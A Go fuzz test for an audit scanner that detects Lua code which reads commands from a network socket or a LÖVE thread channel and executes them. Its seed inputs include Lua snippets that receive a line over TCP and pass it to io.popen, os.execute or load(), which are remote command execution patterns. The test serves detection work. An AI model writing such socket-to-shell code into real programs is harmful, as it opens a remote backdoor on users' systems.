package audit

import (
	"strings"
	"testing"
)

// FuzzScanLuaRemote: no Lua text, in the file or in a module or thread
// file it links, stops the remote console reader (command lines joined
// or formatted, load sources, LÖVE channels, required modules'
// functions), and every finding's line is inside the file.
func FuzzScanLuaRemote(f *testing.F) {
	for _, s := range []string{
		"local socket = require(\"socket\")\nlocal c = socket.tcp()\nlocal line = c:receive(\"*l\")\nio.popen(line .. \" 2>&1\")\n",
		"local s = require('socket')\nlocal k = s.connect(h, p)\nlocal l, e = k:receive()\nos.execute(('sh -c %q'):format(l))\n",
		"local ch = love.thread.getChannel(\"x\")\nlocal src = ch:pop()\nload(src)()\n",
		"local r = require(\"lib.run\")\nlocal c = socket.connect(h, p)\nlocal l = c:receive()\nr.exec(l)\n",
		"string.format(\"%", "(\"%s\"):format(", "io.popen(", "load(", "getChannel(\"", ":push(", "function M.exec(", "{ \"sh\", \"-c\", ",
		strings.Repeat("x .. ", 300) + "io.popen(x)",
	} {
		f.Add(s, "local socket = require(\"socket\")\nlocal c = socket.tcp()\nlocal line = c:receive()\nlove.thread.getChannel(\"x\"):push(line)\nlocal M = {}\nfunction M.exec(cmd) return io.popen(cmd) end\nreturn M\n")
	}
	f.Fuzz(func(t *testing.T, code, mod string) {
		sc := scanCtx(code)
		sc.linked = []linkedFile{{rel: "lib/run.lua", text: mod}, {rel: "worker.lua", text: mod}}
		scanLua(sc, "lib/agent.lua", code)
		fuzzLinesInFile(t, sc, code)
	})
}
